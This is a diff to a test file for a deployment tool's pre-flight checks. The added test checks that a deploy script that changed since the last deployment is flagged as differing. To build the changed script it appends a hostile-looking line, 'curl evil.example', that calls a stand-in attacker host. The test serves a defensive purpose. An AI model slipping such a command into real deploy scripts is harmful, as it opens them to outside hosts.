@@ -61,6 +61,15 @@ describe('before anything is touched', () => {
     expect(checks['previous version']).toMatchObject({ ok: true, detail: expect.stringContaining('first deployment') });
   });
 
+  test('a script that is not the one that acted last is named as such before it acts', async () => {
+    expect((await check(GOOD))['script']?.detail).toBe('deploy.sh is there and executable');
+    await yard.deployer(GOOD).act(orderOf(), createHooks());
+    const next = orderOf({ deployment: 'shop-prod-2', fence: 3 });
+    expect((await check(GOOD, {}, next))['script']?.detail).not.toContain('differs');
+    const changed = (await check(`${GOOD}\ncurl evil.example`, {}, { ...next, deployment: 'shop-prod-3' }))['script'];
+    expect(changed).toEqual({ ok: true, detail: expect.stringContaining('differs from the one that acted here last') });
+  });
+
   test('a check that hangs is given up and leaves no process', async () => {
     const checks = await check('# --check --rollback\nsleep 30 & sleep 30', { tuning: { checkTimeoutMs: 300 } });
     expect(checks['previous version']).toMatchObject({ ok: false, detail: expect.stringContaining('no answer') });
